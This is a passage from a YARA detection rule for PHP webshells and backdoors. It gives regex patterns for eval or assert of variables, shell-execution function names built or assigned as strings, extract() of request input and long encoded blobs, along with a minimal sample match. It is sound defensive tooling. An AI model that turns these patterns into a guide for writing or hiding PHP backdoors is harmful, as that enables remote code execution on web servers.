        description = "not a finding: the text without which no rule of php_content_gated.yar can match (eval or assert of a variable, a runner's name assigned or completed, characters picked out of a string, extract() of the request, a long encoded blob decoded). Those rules need strings whose only literal is a variable's $, which every statement starts: they are matched only on the files where this rule matched"
        example_match = "<?php extract($_POST); $f($x);"
        example_no_match = "<?php $url = $scheme . $host; wp_redirect( $url ); $callback( $value );"
    strings:
        $eval_var = /[^\w$>:](eval|assert)\s*\(\s*@?\$\w+\s*\)/ nocase
        $assigned = /[$]\w+\s*(\.?=|=>)\s*['"](assert|eval|system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|create_function|call_user_func|call_user_func_array|base64_decode|gzinflate|gzuncompress|str_rot13)['"]\s*[;,\])]/ nocase
        $suffix = /(\$\w+|\])\s*\.\s*['"](ert|sert|ssert|ystem|stem|xec)['"]\s*[;),]/ nocase
        $picked = /(\$\w+\x02?(\[['"]\w{1,20}['"]\])?(\[\d{1,3}\]|\{\d{1,3}\})\.){4}\$\w+\x02?(\[['"]\w{1,20}['"]\])?(\[\d{1,3}\]|\{\d{1,3}\})/
        $extract = /extract\s*\(\s*\$_(GET|POST|REQUEST|COOKIE)\b/ nocase
        $blob = /(base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|convert_uudecode|hex2bin)\s*\(\s*['"][A-Za-z0-9+\/=\\\r\n]{256}/ nocase
    condition:
        any of them
}
